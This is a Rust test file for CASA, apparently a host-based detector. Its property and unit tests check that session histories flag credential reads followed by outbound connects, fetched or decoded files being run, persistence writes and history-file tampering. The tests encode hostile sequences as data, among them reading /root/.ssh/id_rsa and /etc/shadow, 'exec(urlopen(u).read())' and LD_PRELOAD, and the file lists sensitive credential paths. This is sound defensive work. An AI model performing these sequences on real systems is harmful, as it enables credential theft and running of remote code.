            burst_exec_threshold: be,
            burst_window_ns: bw * SEC,
            sensitive_history_window_ns: sw * SEC,
            ..Heuristics::default()
        })
}

/// Whether an event applied to a session enters its recent ring: Activity and Unix-socket
/// connects feed the durable facts only.
fn into_ring(e: &Event) -> bool {
    match &e.detail {
        Detail::Fork(_) | Detail::Activity(_) => false,
        Detail::Exec(x) => x.result == 0,
        Detail::Connect(c) => !matches!(c.addr, SockAddr::Unix { .. }),
        _ => true,
    }
}

fn op_event(op: &Op, t: u64) -> Option<Event> {
    const COMMS: &[&str] = &["", "sh", "bash", "node", "curl"];
    let comm = |pid: u32| COMMS[pid as usize % COMMS.len()];
    Some(match *op {
        Op::Exec(pid, i) => exec(t, pid, EXECS[i]),
        Op::Open(pid, i, f, ok) => {
            let mut e = open_res(t, pid, PATHS[i], FLAGS[f], if ok { 3 } else { -2 });
            e.comm = Bytes::from(comm(pid));
            e
        }
        Op::Connect(pid, i, port, unix) => {
            let addr = if unix {
                SockAddr::Unix {
                    path: Bytes::from("/run/x.sock"),
                }
            } else {
                SockAddr::Inet {
                    addr: IPS[i].parse().ok()?,
                    port,
                    v4_mapped: false,
                }
            };
            connect_to(t, pid, addr, if port == 80 { -111 } else { 0 })
        }
        Op::Exit(pid) => exit(t, pid, comm(pid)),
        Op::Prune(_) | Op::Switch => return None,
    })
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: std::env::var("CASA_PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(512),
        ..ProptestConfig::default()
    })]

    #[test]
    fn incremental_history_equals_reference(
        h1 in heuristics(),
        h2 in heuristics(),
        ops in prop::collection::vec(op(), 1..80),
    ) {
        let mut tr = Tracked::new();
        let mut t = T0;
        let mut h = &h1;
        // After a switch the knobs are re-read at the next folded event (or a prune).
        let mut stale = false;
        // The knobs changed during the session: what was established stays, so the sticky
        // flags are only checked to contain the ring's and never to clear.
        let mut switched = false;
        for (op, gap) in &ops {
            if *gap == 13 {
                t -= SEC / 2;
            } else {
                t += gap * SEC / 4;
            }
            let before = tr.s.context().clone();
            let mut pruned = false;
            match op {
                Op::Prune(pid) => {
                    let expect = tr.s.is_transparent_shell(*pid, h);
                    prop_assert_eq!(tr.prune(*pid, h), expect);
                    pruned = expect;
                    stale &= !expect;
                    prop_assert!(!expect || !tr.s.has_process(*pid));
                    prop_assert!(!expect || tr.s.recent().all(|e| e.pid != *pid));
                }
                Op::Switch => {
                    h = if std::ptr::eq(h, &h1) { &h2 } else { &h1 };
                    stale = true;
                    switched = true;
                }
                _ => {
                    if let Some(e) = op_event(op, t) {
                        let changed = tr.apply(&e, h);
                        prop_assert_eq!(changed, &before != tr.s.context());
                        // An event outside the ring re-derives no sequence flag.
                        stale &= !into_ring(&e);
                    }
                }
            }
            prop_assert!(tr.s.recent().len() <= h.recent_event_limit.max(h1.recent_event_limit).max(h2.recent_event_limit));
            let now = sequence(&tr.s.context().history);
            if !pruned {
                let was = sequence(&before.history);
                let kept = was.values().zip(now.values()).all(|(a, b)| a.1 != FieldValue::Bool(true) || b.1 == FieldValue::Bool(true));
                prop_assert!(kept, "a fact cleared without a prune: {:?} -> {:?}", was, now);
            }
            if !stale {
                let ring: Vec<RecentEvent> = tr.s.recent().cloned().collect();
                let clocks_sorted = ring.windows(2).all(|w| w[0].clock_ns <= w[1].clock_ns);
                prop_assert!(clocks_sorted);
                let ring_flags = tr.s.ring_flags();
                prop_assert_eq!(&ring_flags, &history_reference(&ring, h));
                let contains = ring_flags.values().zip(now.values()).all(|(a, b)| a.1 != FieldValue::Bool(true) || b.1 == FieldValue::Bool(true));
                prop_assert!(contains, "ring {:?} not in sticky {:?}", ring_flags, now);
                if !switched {
                    prop_assert_eq!(&now, &history_reference(&tr.all, h));
                }
            }
        }
    }
}

// ---- durable facts ----

const WRITE: u32 = 0x241; // O_WRONLY|O_CREAT|O_TRUNC
const APPEND: u32 = 0x441; // O_WRONLY|O_CREAT|O_APPEND

fn exec_argv(t: u64, pid: u32, path: &str, argv: &[&str]) -> Event {
    let comm = classify::basename(path).to_owned();
    let x = Exec {
        seccomp_mode: Some(2),
        ..Exec::test(path, argv)
    };
    event(t, pid, &comm, Detail::Exec(x))
}

fn with_uid(mut e: Event, uid: u32) -> Event {
    e.uid = uid;
    e
}

/// CASA's shipped knobs (rules.json): a 64-event ring, 10-second windows, its sensitive
/// lists.
fn casa_h() -> Heuristics {
    let strings = |v: &[&str]| v.iter().map(|s| (*s).to_owned()).collect();
    Heuristics {
        sensitive_path_prefixes: strings(&[
            "/root/",
            "/var/run/secrets/",
            "/run/secrets/",
            "/var/lib/kubelet/",
            "/var/lib/docker/",
            "/var/lib/containerd/",
        ]),
        sensitive_path_patterns: strings(&[
            "/etc/shadow",
            "/etc/sudoers",
            "/.config/openclaw/",
            "/shadow",
        ]),
        recent_event_limit: 64,
        burst_open_threshold: 10,
        burst_connect_threshold: 5,
        burst_exec_threshold: 5,
        burst_window_ns: 10 * SEC,
        sensitive_history_window_ns: 10 * SEC,
        ..Heuristics::default()
    }
}

fn cheap_opens(from: u64, pid: u32, n: u64) -> Vec<Event> {
    (0..n)
        .map(|i| open(from + i * 1_000_000, pid, "/etc/hostname", 0))
        .collect()
}

#[test]
fn seventy_cheap_opens_cannot_push_a_step_out() {
    let h = casa_h();
    // write → 70 opens → run
    let mut t = Tracked::new();
    t.fold(&[open(T0, 100, "/tmp/x.sh", WRITE)], &h);
    t.fold(&cheap_opens(T0 + SEC, 101, 70), &h);
    t.fold(&[exec(T0 + 2 * SEC, 102, "/tmp/x.sh")], &h);
    assert!(
        !t.s.ring_flags().write_then_exec_same_path,
        "the ring forgot"
    );
    assert!(t.s.context().history.write_then_exec_same_path);
    assert_reference(&t, &h);
    // read a secret → 70 opens → send
    let mut t = Tracked::new();
    t.fold(&[open(T0, 100, "/root/.ssh/id_rsa", 0)], &h);
    t.fold(&cheap_opens(T0 + SEC, 101, 70), &h);
    t.fold(&[connect(T0 + 2 * SEC, 102, "203.0.113.7", 443)], &h);
    assert!(!t.s.ring_flags().sensitive_then_network);
    let hist = t.s.context().history.clone();
    assert!(hist.sensitive_then_network && hist.sensitive_then_external);
    assert_reference(&t, &h);
    // download → 70 opens → run
    let mut t = Tracked::new();
    t.fold(&[connect(T0, 100, "203.0.113.7", 443)], &h);
    t.fold(&cheap_opens(T0 + SEC, 101, 70), &h);
    t.fold(&[exec(T0 + 2 * SEC, 102, "/tmp/p")], &h);
    assert!(!t.s.ring_flags().connect_then_exec);
    assert!(t.s.context().history.connect_then_exec);
    assert_reference(&t, &h);
}

#[test]
fn sleep_past_the_window() {
    // CASA's window keeps working: 11 s apart is not "within 10 s".
    let h = casa_h();
    let steps = [
        open(T0, 100, "/root/.aws/credentials", 0),
        connect(T0 + 11 * SEC, 101, "203.0.113.7", 443),
    ];
    let hist = history_of(&steps, &h);
    assert!(!hist.sensitive_then_network);
    // The window-free fact does not care, nor does a window of 0 (anywhere in the session).
    assert!(hist.sensitive_then_external);
    let unlimited = Heuristics {
        sensitive_history_window_ns: 0,
        ..casa_h()
    };
    let mut t = Tracked::new();
    t.fold(&steps[..1], &unlimited);
    t.fold(&cheap_opens(T0 + SEC, 102, 100), &unlimited);
    t.fold(
        &[connect(T0 + 3600 * SEC, 101, "203.0.113.7", 443)],
        &unlimited,
    );
    assert!(t.s.context().history.sensitive_then_network);
    assert_reference(&t, &unlimited);
    // A burst, once seen, stays a fact: a sleep and a flood do not clear it.
    let mut t = Tracked::new();
    t.fold(
        &(0..5)
            .map(|i| exec(T0 + i, 200 + i as u32, "/usr/bin/id"))
            .collect::<Vec<_>>(),
        &h,
    );
    assert!(t.s.context().history.burst_exec);
    t.fold(&cheap_opens(T0 + 3600 * SEC, 300, 200), &h);
    t.fold(&[exec(T0 + 7200 * SEC, 301, "/usr/bin/ls")], &h);
    assert!(!t.s.ring_flags().burst_exec);
    assert!(t.s.context().history.burst_exec);
    assert_reference(&t, &h);
}

#[test]
fn a_flood_cannot_push_facts_out_and_memory_stays_bounded() {
    let h = casa_h();
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            open(T0, 100, "/root/.ssh/id_rsa", 0),
            open(T0 + 1, 100, "/tmp/x.sh", WRITE),
            connect(T0 + 2, 100, "203.0.113.7", 443),
        ],
        &h,
    );
    // 200 000 opens of distinct files in two seconds (a flood), then the payload runs.
    for i in 0..200_000u64 {
        let e = open(T0 + 3 + i * 10_000, 101, &format!("/srv/data/f{i}"), 0);
        s.apply(
            Observed {
                event: &e,
                lineage: &[],
            },
            &h,
        );
    }
    fold(&mut s, &[exec(T0 + 3 * SEC, 102, "/tmp/x.sh")], &h);
    let hist = s.context().history.clone();
    assert!(hist.sensitive_then_network && hist.sensitive_then_external);
    assert!(hist.write_then_exec_same_path && hist.connect_then_exec && hist.burst_open);
    assert_eq!(s.recent().len(), 64);
    assert_eq!(hist.sensitive_read_count, 1);
    assert!(
        !hist.facts_overflowed,
        "reads of ordinary files fill no set"
    );
}

#[test]
fn every_fact_set_is_bounded_and_reaching_a_bound_is_a_fact() {
    let h = Heuristics {
        recent_event_limit: 8,
        ..Heuristics::default()
    };
    let mut s = SessionContext::new(1);
    let mut store = TaintStore::default();
    let t = std::cell::Cell::new(T0);
    let apply = |s: &mut SessionContext, e: Event, store: &mut TaintStore| {
        s.apply_in(
            Observed {
                event: &e,
                lineage: &[],
            },
            &h,
            Some(store),
        );
    };
    let tick = || {
        t.set(t.get() + 1_000);
        t.get()
    };
    apply(&mut s, open(tick(), 100, "/tmp/warmup", WRITE), &mut store);
    assert!(!s.context().history.facts_overflowed);
    let over = 10;
    // Files written (distinct), also past the write→exec memory beyond the ring.
    for i in 0..(WRITTEN_PATHS_MAX + over) {
        apply(
            &mut s,
            open(tick(), 100, &format!("/tmp/w{i}"), WRITE),
            &mut store,
        );
    }
    // Sensitive files read and attempted.
    for i in 0..(SENSITIVE_MAX + over) {
        let p = format!("/root/secret{i}");
        apply(&mut s, open(tick(), 101, &p, 0), &mut store);
        apply(&mut s, open_res(tick(), 101, &p, 0, -13), &mut store);
    }
    // External destinations.
    for i in 0..(DESTINATIONS_MAX + over) {
        let ip = format!("203.0.{}.{}", i / 250, i % 250 + 1);
        apply(&mut s, connect(tick(), 102, &ip, 443), &mut store);
    }
    // Programs.
    for i in 0..(PROGRAMS_MAX + over) {
        apply(
            &mut s,
            exec(tick(), 103, &format!("/opt/bin/p{i}")),
            &mut store,
        );
    }
    // Persistence locations.
    for i in 0..(PERSISTENCE_MAX + over) {
        apply(
            &mut s,
            open(tick(), 104, &format!("/etc/cron.d/job{i}"), WRITE),
            &mut store,
        );
    }
    // Loader variables (the sensor's hook).
    let vars: Vec<String> = (0..(LOADER_VARS_MAX + over))
        .map(|i| format!("LD_PRELOAD=/dev/shm/{i}.so"))
        .collect();
    s.note_loader_variables(vars.iter().map(String::as_str));
    // Tainted files inherited from an earlier session.
    for i in 0..(INHERITED_MAX + over) {
        let p = format!("/tmp/loot{i}");
        store.publish(
            1000,
            FileKey::path(&p),
            Taint {
                path: p.clone(),
                session_id: 99,
                source: "/root/.ssh/id_rsa".into(),
                written_ns: t.get(),
            },
        );
        apply(&mut s, open(tick(), 105, &p, 0), &mut store);
    }
    let f = s.facts();
    assert_eq!(f.written.len(), WRITTEN_FILES_MAX);
    assert_eq!(f.sensitive_read.len(), SENSITIVE_MAX);
    assert_eq!(f.sensitive_attempted.len(), SENSITIVE_MAX);
    assert_eq!(f.destinations.len(), DESTINATIONS_MAX);
    // Ports per host: one entry per recorded destination's host, so never more than the
    // destinations. (The discovery, account, privilege and security-product sets take items
    // from fixed lists shorter than their bound.)
    assert_eq!(f.ports_by_host.len(), DESTINATIONS_MAX);
    assert_eq!(f.programs.len(), PROGRAMS_MAX);
    assert_eq!(f.persistence.len(), PERSISTENCE_MAX);
    assert_eq!(f.loader_vars.len(), LOADER_VARS_MAX);
    assert_eq!(f.inherited.len(), INHERITED_MAX);
    assert_eq!(f.origins.len(), INHERITED_MAX);
    for set in [
        f.written.overflowed(),
        f.sensitive_read.overflowed(),
        f.sensitive_attempted.overflowed(),
        f.destinations.overflowed(),
        f.programs.overflowed(),
        f.persistence.overflowed(),
        f.loader_vars.overflowed(),
        f.inherited.overflowed(),
    ] {
        assert!(set);
    }
    assert_eq!(s.settled_written(), WRITTEN_PATHS_MAX);
    assert_eq!(s.process_writes(100), PROCESS_WRITES_MAX);
    assert!(s.process_writes(104) <= PROCESS_WRITES_MAX);
    // A process that is gone keeps no list of its writes.
    apply(&mut s, exit(tick(), 100, "x"), &mut store);
    assert_eq!(s.process_writes(100), 0);
    assert_eq!(s.facts().written.len(), WRITTEN_FILES_MAX, "the facts stay");
    assert_eq!(s.recent().len(), 8);
    assert!(store.len() <= TAINT_PER_UID_MAX * TAINT_UIDS_MAX);
    let hist = &s.context().history;
    assert!(hist.facts_overflowed);
    assert_eq!(hist.sensitive_read_count, SENSITIVE_MAX as i64);
    assert_eq!(hist.sensitive_attempt_count, SENSITIVE_MAX as i64);
    assert_eq!(hist.external_destination_count, DESTINATIONS_MAX as i64);
    assert_eq!(hist.program_count, PROGRAMS_MAX as i64);
    assert_eq!(hist.persistence_kinds, ["cron"]);
    assert_eq!(hist.taint_origins.len(), INHERITED_MAX);
}

#[test]
fn the_write_exec_memory_overflow_alone_is_a_fact() {
    let h = Heuristics {
        recent_event_limit: 1,
        ..Heuristics::default()
    };
    let mut s = SessionContext::new(1);
    for i in 0..=WRITTEN_PATHS_MAX as u64 {
        // The same few files over and over do not fill it; distinct ones do.
        fold(&mut s, &[open(T0 + i, 100, "/tmp/same", WRITE)], &h);
    }
    assert!(!s.context().history.facts_overflowed);
    for i in 0..=WRITTEN_PATHS_MAX as u64 {
        fold(
            &mut s,
            &[open(T0 + i, 100, &format!("/tmp/f{i}"), WRITE)],
            &h,
        );
    }
    assert!(s.context().history.facts_overflowed);
}

#[test]
fn provenance_of_written_files() {
    let h = Heuristics::default();
    // `curl … > /tmp/p`: the shell's child opens the file, then becomes curl.
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            open(T0, 100, "/tmp/p", WRITE),
            exec_argv(T0 + 1, 100, "/usr/bin/curl", &["curl", "http://x/p"]),
            connect(T0 + 2, 100, "203.0.113.7", 80),
            exec(T0 + 3, 101, "/tmp/p"),
        ],
        &h,
    );
    let w = s.facts().written.get(&FileKey::path("/tmp/p")).unwrap();
    assert!(w.provenance.network_tool && w.provenance.after_external_connect);
    assert!(s.context().history.fetched_file_run);
    assert!(!s.context().history.decoded_file_run);
    // A script that downloads and writes: connected, then wrote.
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            exec(T0, 100, "/usr/bin/python3"),
            connect(T0 + 1, 100, "10.9.8.7", 8080),
            open(T0 + 2, 100, "/home/u/tool", WRITE),
            exec(T0 + 3, 101, "/home/u/tool"),
        ],
        &h,
    );
    assert!(s.context().history.fetched_file_run);
    // A local connect is no download.
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            exec(T0, 100, "/usr/bin/python3"),
            connect(T0 + 1, 100, "127.0.0.1", 8080),
            open(T0 + 2, 100, "/home/u/tool", WRITE),
            exec(T0 + 3, 101, "/home/u/tool"),
        ],
        &h,
    );
    assert!(!s.context().history.fetched_file_run);
    assert!(s.context().history.write_then_exec_same_path);
    // `echo … | base64 -d > /tmp/d; chmod +x /tmp/d; /tmp/d`
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            open(T0, 100, "/tmp/d", WRITE),
            exec_argv(T0 + 1, 100, "/usr/bin/base64", &["base64", "-d"]),
            exec(T0 + 2, 101, "/tmp/d"),
        ],
        &h,
    );
    assert!(s.context().history.decoded_file_run);
    assert!(!s.context().history.fetched_file_run);
    // `cp /root/.ssh/id_rsa /tmp/k` and `cat /etc/shadow > /tmp/s` (open before the read).
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            open(T0, 100, "/root/.ssh/id_rsa", 0),
            open(T0 + 1, 100, "/tmp/k", WRITE),
        ],
        &h,
    );
    assert!(s.context().history.sensitive_copy_written);
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            open(T0, 100, "/tmp/s", WRITE),
            exec_argv(T0 + 1, 100, "/usr/bin/cat", &["cat", "/etc/shadow"]),
        ],
        &h,
    );
    assert!(!s.context().history.sensitive_copy_written);
    fold(&mut s, &[open(T0 + 2, 100, "/etc/shadow", 0)], &h);
    assert!(s.context().history.sensitive_copy_written);
    // An ordinary write stays plain.
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            open(T0, 100, "/work/a.c", WRITE),
            exec(T0 + 1, 101, "/work/a"),
        ],
        &h,
    );
    let hist = s.context().history.clone();
    assert!(!hist.fetched_file_run && !hist.decoded_file_run && !hist.sensitive_copy_written);
}

#[test]
fn sensitive_counts_destinations_and_programs_are_distinct() {
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            open(T0, 100, "/root/.ssh/id_rsa", 0),
            open(T0 + 1, 100, "/root/.ssh/id_rsa", 0),
            open(T0 + 2, 100, "/root/.aws/credentials", 0),
            open_res(T0 + 3, 100, "/etc/shadow", 0, -13),
            open_res(T0 + 4, 100, "/etc/shadow", 0, -13),
            open(T0 + 5, 100, "/tmp/plain", 0),
            connect(T0 + 6, 100, "203.0.113.7", 443),
            connect(T0 + 7, 100, "203.0.113.7", 443),
            connect(T0 + 8, 100, "203.0.113.7", 80),
            connect(T0 + 9, 100, "127.0.0.1", 80),
            exec(T0 + 10, 101, "/usr/bin/id"),
            exec(T0 + 11, 102, "/usr/bin/id"),
            exec(T0 + 12, 103, "/usr/bin/uname"),
        ],
        &h,
    );
    let hist = s.context().history.clone();
    assert_eq!(hist.sensitive_read_count, 2);
    assert_eq!(hist.sensitive_attempt_count, 1);
    assert_eq!(hist.external_destination_count, 2);
    assert_eq!(hist.program_count, 2);
    let d = s
        .facts()
        .destinations
        .get(&("203.0.113.7".parse().unwrap(), 443))
        .unwrap();
    assert_eq!(d.attempts, 2);
    assert!(d.established);
}

#[test]
fn persistence_writes_are_facts() {
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    fold(&mut s, &[open(T0, 100, "/home/u/.bashrc", 0)], &h);
    assert!(
        !s.context().history.persistence_written,
        "a read is no write"
    );
    fold(
        &mut s,
        &[
            open(T0 + 1, 100, "/home/u/.bashrc", APPEND),
            open(T0 + 2, 100, "/home/u/.config/systemd/user/x.service", WRITE),
            open(T0 + 3, 100, "/home/u/.profile", APPEND),
            open_res(T0 + 4, 100, "/etc/ld.so.preload", WRITE, -13),
        ],
        &h,
    );
    let hist = s.context().history.clone();
    assert!(hist.persistence_written);
    assert_eq!(hist.persistence_kinds, ["shell_startup", "systemd"]);
    // A shell that wrote a start-up file is never a transparent wrapper.
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            exec(T0, 50, "/bin/sh"),
            open(T0 + 1, 50, "/home/u/.bashrc", APPEND),
        ],
        &h,
    );
    assert!(!s.is_transparent_shell(50, &h));
}

#[test]
fn loss_and_reparenting_are_facts() {
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    fold(&mut s, &[exec(T0, 100, "/bin/ls")], &h);
    assert!(!s.context().history.events_lost);
    assert!(s.note_lost(12));
    assert!(s.note_lost(3));
    assert!(!s.note_lost(0));
    let hist = s.context().history.clone();
    assert!(hist.events_lost);
    assert_eq!(hist.events_lost_count, 15);
    assert!(!s.note_reparented(0));
    assert!(s.note_reparented(2));
    assert!(!s.note_reparented(2));
    assert!(s.context().history.reparented);
    assert_eq!(s.context().history.reparented_count, 2);
    // Later events keep them.
    fold(&mut s, &[exec(T0 + 1, 101, "/bin/ls")], &h);
    assert!(s.context().history.events_lost && s.context().history.reparented);
}

fn apply_in(s: &mut SessionContext, events: &[Event], h: &Heuristics, store: &mut TaintStore) {
    for e in events {
        s.apply_in(
            Observed {
                event: e,
                lineage: &[],
            },
            h,
            Some(store),
        );
    }
}

#[test]
fn taint_crosses_sessions_of_the_same_uid() {
    let h = Heuristics::default();
    let mut store = TaintStore::default();
    // Session 7 reads a secret and writes it to /tmp/loot (`cat secret > /tmp/loot`).
    let mut first = SessionContext::new(7);
    apply_in(
        &mut first,
        &[
            open(T0, 100, "/tmp/loot", WRITE),
            exec_argv(T0 + 1, 100, "/usr/bin/cat", &["cat", "/root/.ssh/id_rsa"]),
            open(T0 + 2, 100, "/root/.ssh/id_rsa", 0),
            open(T0 + 3, 100, "/tmp/plain", WRITE), // no sensitive read by this one
        ],
        &h,
        &mut store,
    );
    assert!(!first.context().history.tainted_file_sent, "its own file");
    let loot = FileKey::path("/tmp/loot");
    assert_eq!(store.lookup(1000, &loot, T0 + 3).unwrap().session_id, 7);
    // Session 8 opens it and sends it.
    let mut second = SessionContext::new(8);
    apply_in(
        &mut second,
        &[
            open(T0 + 60 * SEC, 200, "/tmp/loot", 0),
            connect(T0 + 61 * SEC, 201, "203.0.113.7", 443),
        ],
        &h,
        &mut store,
    );
    let hist = second.context().history.clone();
    assert!(hist.tainted_file_sent && !hist.tainted_file_run);
    assert_eq!(
        hist.taint_origins,
        ["session 7 wrote /tmp/loot after reading /root/.ssh/id_rsa"]
    );
    // Opening alone, or sending first, is not sending it.
    let mut third = SessionContext::new(9);
    apply_in(
        &mut third,
        &[
            connect(T0 + 60 * SEC, 201, "203.0.113.7", 443),
            open(T0 + 61 * SEC, 200, "/tmp/loot", 0),
        ],
        &h,
        &mut store,
    );
    assert!(!third.context().history.tainted_file_sent);
    assert_eq!(third.context().history.taint_origins.len(), 1);
    // Running it.
    let mut fourth = SessionContext::new(10);
    apply_in(
        &mut fourth,
        &[exec(T0 + 62 * SEC, 300, "/tmp/loot")],
        &h,
        &mut store,
    );
    assert!(fourth.context().history.tainted_file_run);
    // Another uid inherits nothing.
    let mut other = SessionContext::new(11);
    apply_in(
        &mut other,
        &[
            with_uid(open(T0 + 60 * SEC, 200, "/tmp/loot", 0), 1001),
            with_uid(connect(T0 + 61 * SEC, 201, "203.0.113.7", 443), 1001),
        ],
        &h,
        &mut store,
    );
    assert!(!other.context().history.tainted_file_sent);
    // Expired: nothing either.
    let late = T0 + TAINT_MAX_AGE_NS + 10 * SEC;
    let mut later = SessionContext::new(12);
    apply_in(
        &mut later,
        &[
            open(late, 200, "/tmp/loot", 0),
            connect(late + SEC, 201, "203.0.113.7", 443),
        ],
        &h,
        &mut store,
    );
    assert!(!later.context().history.tainted_file_sent);
    // An untainted truncating write replaces the content.
    let mut rewrite = SessionContext::new(13);
    apply_in(
        &mut rewrite,
        &[open(T0 + 70 * SEC, 400, "/tmp/loot", WRITE)],
        &h,
        &mut store,
    );
    assert!(store.lookup(1000, &loot, T0 + 71 * SEC).is_none());
}

#[test]
fn taint_follows_copies_and_sessions_chain() {
    let h = Heuristics::default();
    let mut store = TaintStore::default();
    // Session 1: secret → /tmp/a (`cp`).
    let mut s1 = SessionContext::new(1);
    apply_in(
        &mut s1,
        &[
            open(T0, 100, "/root/.aws/credentials", 0),
            open(T0 + 1, 100, "/tmp/a", WRITE),
        ],
        &h,
        &mut store,
    );
    // Session 2: /tmp/a → /tmp/b (a copy of a copy).
    let mut s2 = SessionContext::new(2);
    apply_in(
        &mut s2,
        &[
            open(T0 + SEC, 200, "/tmp/a", 0),
            open(T0 + SEC + 1, 200, "/tmp/b", WRITE),
        ],
        &h,
        &mut store,
    );
    assert!(!s2.context().history.tainted_file_sent);
    let b = store
        .lookup(1000, &FileKey::path("/tmp/b"), T0 + 2 * SEC)
        .unwrap();
    assert_eq!((b.session_id, b.source.as_str()), (2, "/tmp/a"));
    // Session 3 sends /tmp/b.
    let mut s3 = SessionContext::new(3);
    apply_in(
        &mut s3,
        &[
            open(T0 + 2 * SEC, 300, "/tmp/b", 0),
            connect(T0 + 2 * SEC + 1, 300, "203.0.113.7", 443),
        ],
        &h,
        &mut store,
    );
    assert!(s3.context().history.tainted_file_sent);
    assert_eq!(
        s3.context().history.taint_origins,
        ["session 2 wrote /tmp/b after reading /tmp/a"]
    );
    // Pseudo files are never tainted.
    assert!(
        store
            .lookup(1000, &FileKey::path("/dev/null"), T0)
            .is_none()
    );
}

#[test]
fn bytes_sent_hook_records_external_destinations_only() {
    let mut s = SessionContext::new(1);
    let ext: IpAddr = "203.0.113.7".parse().unwrap();
    s.note_sent(ext, 443, 1000, T0);
    s.note_sent(ext, 443, 24, T0 + 1);
    s.note_sent("127.0.0.1".parse().unwrap(), 80, 5, T0 + 2);
    let d = s.facts().destinations.get(&(ext, 443)).unwrap();
    assert_eq!((d.bytes_sent, d.first_ns, d.attempts), (1024, T0, 0));
    assert_eq!(s.context().history.external_destination_count, 1);
}

#[test]
fn a_copy_of_a_copy_keeps_its_source_within_a_session() {
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            open(T0, 100, "/root/.ssh/id_rsa", 0),
            open(T0 + 1, 100, "/tmp/a", WRITE),
            open(T0 + 2, 101, "/tmp/a", 0),
            open(T0 + 3, 101, "/tmp/b", WRITE),
            open(T0 + 4, 102, "/tmp/c", WRITE), // written by another process: no copy
        ],
        &h,
    );
    let f = s.facts();
    for p in ["/tmp/a", "/tmp/b"] {
        let w = f.written.get(&FileKey::path(p)).unwrap();
        assert!(w.provenance.sensitive_copy, "{p}");
        assert_eq!(w.taint_source.as_deref(), Some("/root/.ssh/id_rsa"), "{p}");
    }
    let c = f.written.get(&FileKey::path("/tmp/c")).unwrap();
    assert!(!c.provenance.sensitive_copy);
    // Written after the session read the secret: tainted all the same.
    assert_eq!(c.taint_source.as_deref(), Some("/root/.ssh/id_rsa"));
}

/// An exec with its parent and argv (`argv[0]` first).
fn exec_child(t: u64, pid: u32, ppid: u32, path: &str, argv: &[&str]) -> Event {
    let mut e = exec(t, pid, path);
    e.ppid = ppid;
    if let Detail::Exec(x) = &mut e.detail {
        x.argv = argv.iter().map(|a| Bytes::from(*a)).collect();
    }
    e
}

const WRITE_NEW: u32 = (libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC) as u32;

#[test]
fn discovery_counts_distinct_survey_programs() {
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            exec_child(T0, 10, 1, "/usr/bin/whoami", &["whoami"]),
            exec_child(T0, 11, 1, "/usr/bin/id", &["id"]),
            exec_child(T0, 12, 1, "/usr/bin/id", &["id", "-u"]),
            exec_child(T0, 13, 1, "/usr/bin/find", &["find", "/", "-perm", "-4000"]),
            exec_child(T0, 14, 1, "/usr/bin/cargo", &["cargo", "build"]),
        ],
        &h,
    );
    assert_eq!(s.context().history.discovery_program_count, 3);
}

#[test]
fn the_loader_run_on_a_file_the_session_wrote() {
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    let ld = "/lib64/ld-linux-x86-64.so.2";
    fold(
        &mut s,
        &[exec_child(T0, 10, 1, ld, &[ld, "/usr/bin/true"])],
        &h,
    );
    let hist = &s.context().history;
    assert!(hist.loader_run_direct && !hist.loader_ran_written_file);
    fold(
        &mut s,
        &[
            open(T0 + 1, 11, "/dev/shm/x", WRITE_NEW),
            exec_child(T0 + 2, 12, 1, ld, &[ld, "/dev/shm/x"]),
        ],
        &h,
    );
    assert!(s.context().history.loader_ran_written_file);
}

#[test]
fn inline_code_that_fetches_then_runs_something() {
    let h = Heuristics::default();
    // python3 -c that connects out, then a child it starts.
    let mut s = SessionContext::new(1);
    fold(
        &mut s,
        &[
            exec_child(
                T0,
                20,
                1,
                "/usr/bin/python3",
                &["python3", "-c", "exec(urlopen(u).read())"],
            ),
            connect(T0 + 1, 20, "203.0.113.9", 80),
            exec_child(T0 + 2, 21, 20, "/bin/sh", &["sh", "-c", "id"]),
        ],
        &h,
    );
    let hist = &s.context().history;
    assert!(hist.inline_code_run && hist.inline_code_then_external);
    assert!(hist.inline_code_fetch_then_exec);
    // Inline code that only runs something locally, and a script that downloads: neither.
    let mut s = SessionContext::new(2);
    fold(
        &mut s,
        &[
            exec_child(
                T0,
                30,
                1,
                "/usr/bin/python3",
                &["python3", "-c", "print(1)"],
            ),
            exec_child(T0 + 1, 31, 30, "/bin/ls", &["ls"]),
            exec_child(T0 + 2, 32, 1, "/usr/bin/python3", &["python3", "fetch.py"]),
            connect(T0 + 3, 32, "203.0.113.9", 80),
            exec_child(T0 + 4, 33, 32, "/bin/ls", &["ls"]),
            // A loopback connect is not external.
            exec_child(T0 + 5, 34, 1, "/usr/bin/python3", &["python3", "-c", "x"]),
            connect(T0 + 6, 34, "127.0.0.1", 8000),
            exec_child(T0 + 7, 35, 34, "/bin/ls", &["ls"]),
        ],
        &h,
    );
    let hist = &s.context().history;
    assert!(hist.inline_code_run);
    assert!(!hist.inline_code_then_external && !hist.inline_code_fetch_then_exec);
}

#[test]
fn history_files_truncated_or_removed() {
    let h = Heuristics::default();
    let mut s = SessionContext::new(1);
    // Appending (a shell saving its history) is not tampering.
    fold(
        &mut s,
        &[open(
            T0,
            10,
            "/home/u/.bash_history",
            (libc::O_WRONLY | libc::O_APPEND) as u32,
        )],
        &h,
    );
    assert!(!s.context().history.history_file_tampered);
    fold(
        &mut s,
        &[open(T0 + 1, 10, "/home/u/.bash_history", WRITE_NEW)],
        &h,
    );
    assert!(s.context().history.history_file_tampered);
    let mut s = SessionContext::new(2);
    fold(
        &mut s,
        &[exec_child(
            T0,
            11,
            1,
            "/usr/bin/rm",
            &["rm", "-f", "/root/.zsh_history"],
        )],
        &h,
    );
    assert!(s.context().history.history_file_tampered);
}

#[test]
fn a_written_file_run_through_its_interpreter_counts_as_run() {
    let h = Heuristics::default();
